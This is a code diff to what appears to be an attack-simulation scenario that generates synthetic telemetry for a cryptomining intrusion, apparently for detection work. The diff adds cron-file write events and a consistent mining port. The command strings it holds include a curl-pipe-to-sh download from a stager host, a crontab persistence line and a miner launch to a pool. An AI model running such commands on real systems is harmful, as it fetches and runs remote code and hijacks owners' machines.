@@ -43,25 +43,32 @@ export default defineScenario({
       for (const { host, at } of hosts) {
         host.run(at, `sh -c curl -fsSL http://${stager}/${rng.hex(6)}.sh | sh`, { user: "app", parent: "java" });
         host.connect(at + 400, stager, 80, { bytesOut: 300, bytesIn: rng.int(200_000, 4_000_000), process: "curl" });
+        host.write(at + 1500, `/tmp/${binary}`, { process: "curl" });
         host.run(at + 2000, `chmod +x /tmp/${binary}`, { parent: "sh" });
       }
     });
     const settled = Math.max(...hosts.map((h) => h.at)) + 10_000;
     if (rng.chance(0.7)) {
       ctx.stage("persistence", () => {
-        for (const { host } of hosts) host.run(settled + rng.between(1, 60) * 1000, `crontab -l | { cat; echo "*/10 * * * * ${minerCmd}${pool}:3333"; } | crontab -`, { parent: "sh" });
+        for (const { host } of hosts) {
+          const at = settled + rng.between(1, 60) * 1000;
+          const edit = `crontab -l | { cat; echo "*/10 * * * * ${minerCmd}${pool}:3333"; } | crontab -`;
+          host.run(at, edit, { parent: "sh" });
+          host.write(at + 200, "/var/spool/cron/app", { activity: "Update", process: edit });
+        }
       });
     }
     ctx.stage("impact", () => {
       for (const { host } of hosts) {
         const t = settled + rng.between(90, 300) * 1000;
-        const cmd = `${minerCmd}${pool}:${rng.pick([3333, 4444, 5555, 14444])} --donate-level 1 -B`;
+        const port = rng.pick([3333, 4444, 5555, 14444]);
+        const cmd = `${minerCmd}${pool}:${port} --donate-level 1 -B`;
         host.run(t, cmd, { parent: "sh" });
         const { answers } = host.resolve(t + 1000, pool, { process: cmd });
         // The miner keeps a connection open; flow logs show it in every capture window.
         const hours = rng.between(2, 12);
         for (let m = 0; m < hours * 60; m += rng.int(8, 12)) {
-          host.connect(t + 2000 + m * 60_000, answers[0]!, 3333, { bytesOut: rng.int(3_000, 9_000), bytesIn: rng.int(2_000, 6_000), process: cmd, hostname: pool });
+          host.connect(t + 2000 + m * 60_000, answers[0]!, port, { bytesOut: rng.int(3_000, 9_000), bytesIn: rng.int(2_000, 6_000), process: cmd, hostname: pool });
         }
       }
     });
